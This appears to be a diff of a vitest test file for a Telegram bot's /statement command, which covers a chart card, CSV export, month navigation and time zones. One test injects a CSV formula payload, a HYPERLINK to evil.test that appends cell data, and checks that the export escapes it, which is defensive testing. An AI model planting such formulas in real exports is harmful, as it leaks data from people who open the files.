@@ -1,7 +1,8 @@
 /**
- * /statement through the bot: the month of the linked account as a CSV whose
- * lines add up to what the service's ledger debited and refunded, a chart
- * that decodes as a PNG, and a summary with the saving estimate; the month
+ * /statement through the bot: the month of the linked account as one card, a
+ * chart that decodes as a PNG with the summary and saving estimate as its
+ * caption, whose 📄 CSV sends lines that add up to what the service's ledger
+ * debited and refunded and whose ◀ ▶ redraw it for another month; the month
  * in the chat's time zone; clear answers for a bad or empty month.
  */
 import { parse } from "csv-parse/sync";
@@ -9,7 +10,7 @@ import { PNG } from "pngjs";
 import { describe, expect, it } from "vitest";
 import { monthAt, monthLabel } from "../../src/core/statements/statement-month.js";
 import { signTrxTransfer, TEST_KEYS } from "../../testkit/tron-sign.js";
-import { type OrderHarness, useOrderHarness } from "./order-harness.js";
+import { closeChecked, startOrderHarness, type OrderHarness, useOrderHarness } from "./order-harness.js";
 
 const CHAT = 5701;
 const { bob, carol } = TEST_KEYS;
@@ -40,17 +41,30 @@ async function monthOfActivity() {
 
 const botMedia = () => h.tg.botMessages(CHAT).filter((m) => m.document !== undefined || m.photo !== undefined);
 
+/** /statement <month>, then 📄 CSV on its card: the card and the document. */
+async function statementWithCsv(user: ReturnType<OrderHarness["user"]>, month: string) {
+  await user.send(`/statement ${month}`);
+  const card = user.last()!;
+  await user.press(/^📄/, { messageId: card.messageId });
+  return { card, csvMessage: user.last()! };
+}
+
 describe("/statement", () => {
   it("sends the month as a CSV that matches the service's ledger to the sun, a PNG chart and a summary", async () => {
     const { account, user } = await monthOfActivity();
     const page = await h.flows.history.page(CHAT, 0, 10);
     const month = monthLabel(monthAt(page.entries[0]!.createdAtMs, await h.flows.limits.timeZoneOf(CHAT)));
 
+    const before = h.tg.botMessages(CHAT).length;
     await user.send(`/statement ${month}`);
-    const [csvMessage, chartMessage] = botMedia();
+    // One card: the chart with the summary as its caption.
+    expect(h.tg.botMessages(CHAT).length - before).toBe(1);
+    const chartMessage = user.last()!;
+    await user.press(/^📄/, { messageId: chartMessage.messageId });
+    const csvMessage = user.last()!;
     expect(csvMessage?.document?.fileName).toBe(`statement-${month}.csv`);
     expect(csvMessage?.text).toMatch(/^Statement for \w+ \d{4}: 5 lines, times in UTC\.$/);
-    const csv = csvMessage!.document!.bytes!.toString("utf8");
+    const csv = csvMessage.document!.bytes!.toString("utf8");
     expect(csv.split("\r\n")[0]).toBe("time,id,kind,receiver,energy,duration_s,cost_sun,cost_trx,status,broadcast_tx_id,chat");
     const lines = parse<Record<string, string>>(csv, { columns: true });
     expect(lines.map((l) => l["kind"])).toEqual(["order", "order", "broadcast", "broadcast", "refund"]);
@@ -74,12 +88,13 @@ describe("/statement", () => {
     expect(lines[0]!["time"]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+00:00$/);
 
     expect(chartMessage?.photo).toBeDefined();
-    const png = PNG.sync.read(chartMessage!.photo!.bytes!);
+    const png = PNG.sync.read(chartMessage.photo!.bytes!);
     expect(png.width).toBeGreaterThan(0);
     expect(png.height).toBeGreaterThan(0);
-    expect(chartMessage?.text).toMatch(/^Spend per day in \w+ \d{4}, in TRX, refunds deducted/);
+    expect(chartMessage?.text).toMatch(/\n\nSpend per day in \w+ \d{4}, in TRX, refunds deducted/);
+    expect(chartMessage.buttons.flat().map((b) => b.text)).toEqual(["📄 CSV of the month", expect.stringMatching(/^◀ \w+ \d{4}$/)]);
 
-    const summary = user.lastText();
+    const summary = chartMessage.text;
     expect(summary).toContain("Orders: 2,");
     expect(summary).toContain("Broadcasts: 2,");
     expect(summary).toContain("Refunds: 1, −");
@@ -98,8 +113,8 @@ describe("/statement", () => {
     const evil = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
     h.sim.control.setOrderStatus(entry.id, evil);
     await h.until(async () => (await h.flows.history.get(CHAT, "order", entry.id))?.status === evil);
-    await user.send(`/statement ${monthLabel(monthAt(entry.createdAtMs, "UTC"))}`);
-    const csv = botMedia()[0]!.document!.bytes!.toString("utf8");
+    const { csvMessage } = await statementWithCsv(user, monthLabel(monthAt(entry.createdAtMs, "UTC")));
+    const csv = csvMessage.document!.bytes!.toString("utf8");
     const lines = parse<Record<string, string>>(csv, { columns: true });
     expect(lines).toHaveLength(1);
     expect(lines[0]!["status"]).toBe(`'${evil}`);
@@ -115,11 +130,11 @@ describe("/statement", () => {
     await user.press("✅ Confirm");
     const createdAtMs = (await h.flows.history.page(CHAT, 0, 1)).entries[0]!.createdAtMs;
     const month = monthLabel(monthAt(createdAtMs, "Asia/Shanghai"));
-    await user.send(`/statement ${month.slice(5)}.${month.slice(0, 4)}`);
-    const lines = parse<Record<string, string>>(botMedia()[0]!.document!.bytes!.toString("utf8"), { columns: true });
+    const { csvMessage } = await statementWithCsv(user, `${month.slice(5)}.${month.slice(0, 4)}`);
+    const lines = parse<Record<string, string>>(csvMessage.document!.bytes!.toString("utf8"), { columns: true });
     expect(lines).toHaveLength(1);
     expect(lines[0]!["time"]).toMatch(/\+08:00$/);
-    expect(botMedia()[0]!.text).toContain("times in Asia/Shanghai");
+    expect(csvMessage.text).toContain("times in Asia/Shanghai");
   });
 
   it("answers a bad month with an example, an empty month with no records, in the chat's language", async () => {
@@ -145,6 +160,48 @@ describe("/statement", () => {
     await user.send("/statement");
     expect(user.lastText()).toContain("This chat is not connected to an account yet");
     await user.send("/help");
-    expect(user.lastText()).toContain("/statement — Monthly statement: CSV, chart and totals");
+    expect(user.lastText()).toContain("/statement — Monthly statement: chart, totals and CSV");
+  });
+});
+
+describe("the statement card", () => {
+  it("redraws itself for the month before, in place; a month with nothing to draw is only said", async () => {
+    let offsetMs = -40 * 24 * 3_600_000;
+    const now = () => Date.now() + offsetMs;
+    // The service stamps the records: its clock moves with the bot's.
+    const clocked = await startOrderHarness({ now, simulator: { now } });
+    try {
+      await clocked.linkChat(CHAT, { balanceSun: 500_000_000 });
+      const user = clocked.user(CHAT);
+      for (const amount of ["65000", "100000"]) {
+        await user.send(`/order ${bob.address} ${amount} 1h`);
+        await user.press("✅ Confirm");
+        offsetMs = 0;
+      }
+      await user.send("/statement");
+      const card = user.last()!;
+      // Orders' notices may still come: the statement's own messages are the photos and documents.
+      const media = () => clocked.tg.botMessages(CHAT).filter((m) => m.photo !== undefined || m.document !== undefined).length;
+      const count = media();
+      expect(card.text).toContain("Orders: 1, ");
+      // The current month has no ▶: there is nothing after it yet.
+      expect(card.buttons.flat().some((b) => b.text.endsWith("▶"))).toBe(false);
+      const firstChart = card.photo!.fileId;
+
+      await user.press(/^◀/, { messageId: card.messageId });
+      const before = clocked.tg.view(CHAT).find((m) => m.messageId === card.messageId)!;
+      expect(before.photo!.fileId).not.toBe(firstChart);
+      expect(before.text).toContain("Orders: 1, ");
+      expect(before.buttons.flat().some((b) => b.text.endsWith("▶"))).toBe(true);
+      expect(media()).toBe(count);
+
+      // Two months back there is nothing: said in the button's answer, the card left as it was.
+      const empty = await user.press(/^◀/, { messageId: card.messageId });
+      expect(clocked.tg.answerOf(empty)?.["text"]).toMatch(/^No orders, broadcasts or refunds in \w+ \d{4}/);
+      expect(clocked.tg.view(CHAT).find((m) => m.messageId === card.messageId)!.text).toBe(before.text);
+      expect(media()).toBe(count);
+    } finally {
+      await closeChecked(clocked);
+    }
   });
 });
